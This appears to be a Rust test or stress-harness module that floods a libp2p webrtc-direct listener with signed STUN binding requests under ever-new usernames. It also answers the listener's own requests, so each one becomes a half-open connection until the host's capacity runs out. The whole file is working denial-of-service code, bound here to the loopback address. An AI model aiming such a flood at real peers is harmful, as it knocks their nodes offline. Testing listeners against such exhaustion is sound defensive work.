//! Who sends requests to a webrtc-direct listener in ever new names, and answers what it is asked, so that each of
//! them becomes a connection in set-up until its host has no more.

use std::{
    net::{IpAddr, SocketAddr, UdpSocket},
    time::Instant,
};

use libp2p::{Multiaddr, multiaddr::Protocol};
use stun::{
    agent::TransactionId,
    attributes::{ATTR_ICE_CONTROLLING, ATTR_PRIORITY, ATTR_USERNAME, RawAttribute},
    fingerprint::FINGERPRINT,
    integrity::MessageIntegrity,
    message::{BINDING_REQUEST, BINDING_SUCCESS, Message, Setter},
};

use super::Result;

/// How many requests are sent between two looks at what was asked.
const BURST: usize = 16;

/// How many datagrams it sent until then.
pub(crate) fn flood(victim: &Multiaddr, end: Instant) -> Result<u64> {
    let socket = UdpSocket::bind("127.0.0.1:0")?;
    socket.connect(target(victim).ok_or("what address?")?)?;
    socket.set_nonblocking(true)?;
    let (mut sent, mut buffer) = (0, [0; 1500]);
    while Instant::now() < end {
        for _ in 0..BURST {
            // What finds no room is lost.
            sent += u64::from(socket.send(&request(sent)?).is_ok());
        }
        while let Ok(len) = socket.recv(&mut buffer) {
            if let Some(answer) = answer(&buffer[..len]) {
                sent += u64::from(socket.send(&answer).is_ok());
            }
        }
    }
    Ok(sent)
}

fn target(address: &Multiaddr) -> Option<SocketAddr> {
    let mut parts = address.iter();
    match (parts.next()?, parts.next()?) {
        (Protocol::Ip4(ip), Protocol::Udp(port)) => Some(SocketAddr::new(IpAddr::V4(ip), port)),
        _ => None,
    }
}

fn request(n: u64) -> Result<Vec<u8>> {
    let name = format!("libp2p+webrtc+v1/{n:024}");
    let attribute = |typ, value: Vec<u8>| {
        let length = value.len() as u16;
        Box::new(RawAttribute { typ, length, value })
    };
    signed(
        &name,
        vec![
            Box::new(TransactionId::new()),
            Box::new(BINDING_REQUEST),
            attribute(ATTR_USERNAME, format!("{name}:{name}").into()),
            attribute(ATTR_PRIORITY, vec![1; 4]),
            attribute(ATTR_ICE_CONTROLLING, vec![2; 8]),
        ],
    )
}

/// To a request, if it is one.
fn answer(question: &[u8]) -> Option<Vec<u8>> {
    let mut message = Message::new();
    message.raw = question.to_vec();
    message.decode().ok()?;
    if message.typ != BINDING_REQUEST {
        return None;
    }
    let users = message.get(ATTR_USERNAME).ok()?;
    let name = std::str::from_utf8(&users).ok()?.split(':').next()?;
    let (transaction, kind) = (message.transaction_id, BINDING_SUCCESS);
    signed(name, vec![Box::new(transaction), Box::new(kind)]).ok()
}

fn signed(name: &str, mut parts: Vec<Box<dyn Setter>>) -> Result<Vec<u8>> {
    let key = MessageIntegrity::new_short_term_integrity(name.to_owned());
    parts.extend::<[Box<dyn Setter>; 2]>([Box::new(key), Box::new(FINGERPRINT)]);
    let mut message = Message::new();
    message.build(&parts)?;
    Ok(message.raw)
}
